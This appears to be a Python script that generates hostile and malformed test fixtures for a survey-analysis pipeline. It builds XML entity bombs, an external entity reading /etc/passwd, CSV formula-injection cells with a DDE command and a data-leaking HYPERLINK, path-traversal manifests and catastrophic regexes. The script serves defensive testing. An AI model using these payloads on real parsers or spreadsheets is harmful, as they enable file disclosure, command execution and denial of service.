"""Write the small hostile and malformed files under tests/faults/data (run once; committed).

Each file is made by hand here, byte by byte where it matters, so a reader can see what is
wrong with it. Big files (zip bombs) are never committed: the tests make them in tmp_path.
"""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
LONG = "the staff at the recovery service listened and helped me find housing support"
CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
      'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
      'officedocument.wordprocessingml.document.main+xml"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _document(body: str, prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document xmlns:w="{W}">'
            f"<w:body>{body}</w:body></w:document>")


def _para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _docx(path: Path, document: str | None, extra: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CT)
        archive.writestr("_rels/.rels", RELS)
        if document is not None:
            archive.writestr("word/document.xml", document)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    path.write_bytes(buffer.getvalue())
    return buffer.getvalue()


def _odt(path: Path, content: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text",
                         compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml",
                         '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:'
                         'manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                         '<manifest:file-entry manifest:full-path="/" manifest:media-type='
                         '"application/vnd.oasis.opendocument.text"/><manifest:file-entry '
                         'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                         "</manifest:manifest>")
        archive.writestr("content.xml", content)
    path.write_bytes(buffer.getvalue())
    return buffer.getvalue()


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;'
          '&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;'
          '&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'
          '&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;'
          '&lol3;">]>')
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 504  # a Word 97 (OLE) header, named .docx


def office_wave(folder: Path) -> None:
    """Word, OpenDocument and Excel files, corrupt or hostile, beside good ones."""
    good = _docx(folder / "good.docx", _document(_para("Interviewer: How was the service?")
                                                 + _para(f"Respondent: {LONG}.")))
    (folder / "truncated.docx").write_bytes(good[: len(good) // 2])
    (folder / "ole-named.docx").write_bytes(OLE)
    (folder / "plain-text-named.docx").write_text("just some words, not a zip\n")
    (folder / "empty.docx").write_bytes(b"")
    _docx(folder / "malformed-xml.docx", _document(_para("an unclosed <w:p>")))
    _docx(folder / "billion-laughs.docx", _document(_para("&lol4;"), LAUGHS))
    _docx(folder / "external-entity.docx",
          _document(_para("&secret;"), '<!DOCTYPE d [<!ENTITY secret SYSTEM '
                    '"file:///etc/passwd">]>'))
    _docx(folder / "no-document-part.docx", None)
    table = ("<w:tbl>" + "".join(
        f"<w:tr><w:tc>{_para(who)}</w:tc><w:tc>{_para(said)}</w:tc></w:tr>"
        for who, said in [("Interviewer", "What helped you most?"),
                          ("Respondent", "The peer mentor in the table cell helped most.")])
        + "</w:tbl>")
    _docx(folder / "text-in-table.docx", _document(table))
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
               '"urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:'
               'names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
               '<text:p>{}</text:p></office:text></office:body></office:document-content>')
    good_odt = _odt(folder / "good.odt", content.format(f"Respondent: {LONG} in odt."))
    (folder / "truncated.odt").write_bytes(good_odt[:200])
    _odt(folder / "malformed.odt", content.format("broken <text:span>"))
    _odt(folder / "billion-laughs.odt",
         content.replace("?>", "?>" + LAUGHS.replace("lolz", "office:document-content"), 1)
         .format("&lol4;"))
    xlsx_files(folder)
    (folder / "good.csv").write_text(
        "id,answer,region\n" + "".join(f"r{i},{LONG} number {i},north\n" for i in range(1, 4)))


def xlsx_files(folder: Path) -> None:
    """Workbooks: one cut short, one OLE, one with entities, and the content that vanished."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["respondent_id", "comments", "region"])
    for i in range(1, 4):
        sheet.append([f"x{i}", f"{LONG}, workbook row {i}", "south"])
    book.save(folder / "good-book.xlsx")
    with zipfile.ZipFile(folder / "good-book.xlsx") as archive:
        members = {i.filename: archive.read(i) for i in archive.infolist()}

    def rezip(path: Path, changes: dict[str, bytes]) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in {**members, **changes}.items():
                archive.writestr(name, data)

    sheet_xml = members["xl/worksheets/sheet1.xml"]
    rezip(folder / "sheet-cut-short.xlsx",
          {"xl/worksheets/sheet1.xml": sheet_xml[: len(sheet_xml) * 2 // 3]})
    rezip(folder / "billion-laughs.xlsx", {"xl/worksheets/sheet1.xml": LAUGHS.replace(
        "lolz", "worksheet").encode() + sheet_xml.replace(b"x1", b"&lol4;", 1)})
    (folder / "ole-named.xlsx").write_bytes(OLE)
    (folder / "good-book.xlsx").unlink()

    book = openpyxl.Workbook()  # answers on the second sheet as well as the first
    first = book.active
    first.title = "wave A"
    first.append(["respondent_id", "comments"])
    first.append(["a1", f"{LONG}, first sheet"])
    first.append(["a2", f"{LONG}, first sheet again"])
    second = book.create_sheet("wave B")
    second.append(["respondent_id", "comments"])
    second.append(["b1", f"{LONG}, on the second sheet"])
    second.append(["b2", f"{LONG}, on the second sheet too"])
    book.save(folder / "two-sheets.xlsx")

    book = openpyxl.Workbook()  # formulas saved by a tool that computes no cached value
    sheet = book.active
    sheet.append(["respondent_id", "comments", "region"])
    sheet.append(["f1", f"{LONG}, typed", "east"])
    sheet.append(["f2", '=CONCATENATE("a computed ", "answer that was never calculated")',
                  "east"])
    sheet.append(["f3", f"{LONG}, typed again", "west"])
    book.save(folder / "formula-no-cache.xlsx")

    book = openpyxl.Workbook()  # a region merged down three rows
    sheet = book.active
    sheet.append(["respondent_id", "comments", "region"])
    for i in range(1, 4):
        sheet.append([f"m{i}", f"{LONG}, merged region row {i}", "north" if i == 1 else None])
    sheet.merge_cells("C2:C4")
    book.save(folder / "merged-attribute.xlsx")


def text_wave(folder: Path) -> None:
    """Text that passes decoding but used to crash export, or was refused whole."""
    (folder / "form-feed.txt").write_text(
        f"Interviewer: What changed?\n\nRespondent: {LONG}.\x0cPage two of the answer.\n")
    (folder / "escape-and-soh.txt").write_text(
        f"Interviewer: Anything else?\n\nRespondent: \x1b[31m{LONG}\x01 and more.\n")
    (folder / "nul-after-4k.txt").write_bytes(
        (f"Interviewer: Tell me more.\n\nRespondent: {LONG}. " * 80).encode()[:5000]
        + b"\x00\x00 trailing words after the nul\n")
    (folder / "nul-at-start.txt").write_bytes(b"\x00\x01\x02binary\x00" * 20)
    (folder / "utf16-transcript.txt").write_bytes(
        f"Interviewer: How was it?\r\n\r\nRespondent: {LONG}, café.\r\n".encode("utf-16"))
    rows = "".join(f"u{i}\t{LONG}, unicode text row {i} naïve\tnorth\r\n" for i in range(1, 4))
    (folder / "excel-unicode-text.csv").write_bytes(
        ("id\tanswer\tregion\r\n" + rows).encode("utf-16"))
    lines = [f"b{i},{LONG} – row {i},south\n".encode() for i in range(1, 6)]
    lines[1] = lines[1].replace(b"row", b"r\x81ow")  # bytes no encoding reads
    lines[3] = lines[3].replace(b"row", b"r\x9dow")
    (folder / "two-bad-bytes.csv").write_bytes(b"id,answer,region\n" + b"".join(lines))
    (folder / "control-chars.csv").write_text(
        "id,answer,region\n"
        f'c1,"{LONG}\x0cafter a form feed",north\n'
        f'c2,"\x1b[2J{LONG} after an escape",north\n'
        f'c3,"{LONG}\x01\x02\x7f bell\x07",south\n')
    (folder / "formula-injection.csv").write_text(
        "id,answer,region\n"
        f'i1,"=HYPERLINK(""http://example.invalid/?""&A2,""{LONG}"")",north\n'
        f'i2,"+{LONG} plus",north\n'
        f'i3,"-{LONG} minus",south\n'
        f'i4,"@SUM(1+1) {LONG}",south\n'
        f'=1+2,"\t=cmd|\' /C calc\'!A0 {LONG}",east\n')
    (folder / "categorical-first-column.csv").write_text(
        "status,participant,answer\n" + "".join(
            f"complete,p{i},{LONG} with categorical status {i}\n" for i in range(1, 6)))


def shadow_wave(folder: Path) -> None:
    """Columns named like the pipeline's: inferred as attributes and listed in wave.yaml."""
    (folder / "shadow.csv").write_text(
        "id,answer,wave,source,text,line,kind\n" + "".join(
            f"s{i},{LONG} shadow {i},w{i % 2},web,{'yes' if i % 2 else 'no'},{i},x\n"
            for i in range(1, 6)))


def shadow_manifest(folder: Path) -> None:
    """The same columns listed under ``attributes:`` in wave.yaml, and a transcript's."""
    shadow_wave(folder)
    (folder / "talk.txt").write_text(f"Interviewer: And then?\n\nRespondent: {LONG}.\n")
    (folder / "wave.yaml").write_text(
        "id: shadowed\nsources:\n"
        "  - file: shadow.csv\n    respondent_id: id\n"
        "    questions: [{id: q1, column: answer}]\n"
        "    attributes: [wave, source, text, line, kind]\n"
        "  - kind: interview\n    file: talk.txt\n"
        "    attributes: {wave: other-wave, text: overwritten, document_id: x}\n")


def manifests(folder: Path) -> None:
    """wave.yaml files whose ``file:`` leaves the wave folder."""
    for name, file in [("absolute-path", "/etc/passwd"), ("dot-dot", "../../secret/secret.txt"),
                       ("dot-dot-glob", "../*/*.csv"), ("windows-drive", "C:\\\\data\\\\x.csv")]:
        wave = folder / name
        wave.mkdir(parents=True)
        (wave / "wave.yaml").write_text(
            f"id: {name}\nsources:\n  - kind: document\n    file: \"{file}\"\n")
        (wave / "fine.txt").write_text(f"{LONG}.\n")


def codebooks(folder: Path) -> None:
    """Codebooks whose token REGEX would hang a run, or does not compile."""
    for name, regex in [("catastrophic-regex", "^(\\\\w+\\\\s?)*$"),
                        ("nested-star-regex", "(a*)*b"), ("invalid-regex", "[unclosed"),
                        ("same-alternatives-regex", "(a|a)*b"),
                        ("overlapping-alternatives-regex", "^(a|ab)*c$"),
                        ("overlapping-classes-regex", "(\\\\w|\\\\d)+!")]:
        (folder / f"{name}.yaml").write_text(
            "id: faults\nversion: \"1\"\ntitle: Fault codebook\ncodes:\n"
            "  - id: housing\n    label: Housing\n    definition: Housing.\n"
            "    patterns:\n      - housing\n"
            "  - id: slow_code\n    label: Slow\n    definition: Slow.\n    patterns:\n"
            f"      - tokens: [{{TEXT: {{REGEX: \"{regex}\"}}}}]\n")


def whole_file(folder: Path) -> None:
    """Survey files refused whole: each must count the answer cells it held."""
    (folder / "good.csv").write_text(
        "id,answer\n" + "".join(f"g{i},{LONG} {i}\n" for i in range(1, 4)))
    (folder / "missing-column.csv").write_text(
        "id,answer\n" + "".join(f"m{i},{LONG} {i}\n" for i in range(1, 5)))
    (folder / "old-binary.xlsx").write_bytes(OLE)
    (folder / "wave.yaml").write_text(
        "id: whole-file\nsources:\n"
        "  - file: good.csv\n    respondent_id: id\n    questions: [{id: q1, column: answer}]\n"
        "  - file: missing-column.csv\n    respondent_id: id\n"
        "    questions: [{id: q1, column: answer}, {id: q2, column: not_in_the_file}]\n"
        "  - file: old-binary.xlsx\n    respondent_id: id\n"
        "    questions: [{id: q1, column: answer}, {id: q2, column: other}]\n")


def main(only: list[str]) -> None:
    groups = {"office-wave": office_wave, "text-wave": text_wave, "shadow-wave": shadow_wave,
              "shadow-manifest": shadow_manifest, "manifests": manifests,
              "codebooks": codebooks, "whole-file": whole_file}
    for name, make in groups.items():
        if only and name not in only:
            continue
        folder = HERE / name
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
        make(folder)


if __name__ == "__main__":
    import sys

    main(sys.argv[1:])  # the groups to (re)write; all when none are named
